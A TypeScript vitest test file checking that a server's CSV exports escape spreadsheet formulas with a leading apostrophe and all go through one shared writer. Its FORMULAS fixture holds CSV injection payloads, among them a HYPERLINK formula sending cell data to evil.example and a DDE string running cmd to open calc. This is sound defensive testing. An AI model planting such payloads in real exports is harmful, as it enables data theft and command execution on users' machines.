import { readdirSync, readFileSync, statSync } from 'node:fs';
import path from 'node:path';
import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { tableExport } from '../../server/services/exports/table-export';

// Issue 29, item 2: every CSV export is formula-safe. The contacts export proves it end to end
// (contacts-list.test.ts); this file proves it for every export, through the one writer they all use.
const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"clic")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

function serverFiles(dir: string): string[] {
  return readdirSync(dir).flatMap((name) => {
    const file = path.join(dir, name);
    return statSync(file).isDirectory() ? serverFiles(file) : file.endsWith('.ts') ? [file] : [];
  });
}

describe('the CSV writer', () => {
  it('writes each formula start (=, +, -, @, tab, carriage return) as text, with a leading apostrophe', async () => {
    async function* rows() {
      yield* FORMULAS.map((nom) => ({ nom }));
    }
    const file = await text(tableExport('csv', rows(), [{ header: 'Nom', kind: 'text', value: (row: { nom: string }) => row.nom }], 'Feuille'));
    // `text()` decodes as UTF-8 and drops the byte order mark, as a spreadsheet does.
    const [header, ...cells] = parse(file, { delimiter: ';' }) as string[][];
    expect(header).toEqual(['Nom']);
    expect(cells.map(([cell]) => cell)).toEqual(FORMULAS.map((formula) => `'${formula}`));
  });

  it('is the only one: every export of the server writes its CSV through it', () => {
    const files = serverFiles('server');
    const csvWriters = files.filter((file) => readFileSync(file, 'utf8').includes("from 'csv-stringify'"));
    expect(csvWriters).toEqual([path.join('server', 'services', 'exports', 'table-export.ts')]);
    const exportServices = files.filter((file) => file.endsWith(`${path.sep}export.ts`));
    expect(exportServices.length).toBeGreaterThanOrEqual(6);
    for (const service of exportServices) expect(readFileSync(service, 'utf8'), service).toContain('tableExport(');
  });
});
